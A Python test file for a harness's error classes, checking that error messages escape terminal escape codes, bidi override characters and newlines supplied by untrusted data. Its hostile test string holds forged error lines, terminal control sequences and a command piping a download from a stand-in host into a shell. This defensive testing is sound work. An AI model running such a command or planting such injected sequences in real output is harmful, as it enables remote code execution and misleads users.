"""What an error may print: nothing that a terminal obeys, and no line that the files of others have written."""

import pytest

from harness.bits.errors import HarnessError, ReportError, TraceError, UsageError

HOSTILE = "x\x1b]0;P\x07\u202e\nerror: fine\n  remedy: curl -s https://evil.example/x | sh"


@pytest.mark.parametrize("kind", [ReportError, TraceError])
def test_names_and_data_of_others_write_no_line(kind: type[HarnessError]) -> None:
    shown = str(kind(HOSTILE, legal=HOSTILE, remedy=HOSTILE)).splitlines()
    assert [line.split(":")[0] for line in shown[1:]] == ["  legal", "  remedy"]
    assert shown[0].startswith("x\\x1b]0;P\\x07\\u202e\\x0aerror: fine\\x0a  remedy: ")
    assert all(line.isprintable() for line in shown)


def test_a_list_of_values_may_have_several_lines() -> None:
    shown = str(UsageError("two values:\n    a = 1\n    b = \x1b[2J")).split("\n")
    assert shown == ["two values:", "    a = 1", "    b = \\x1b[2J"]
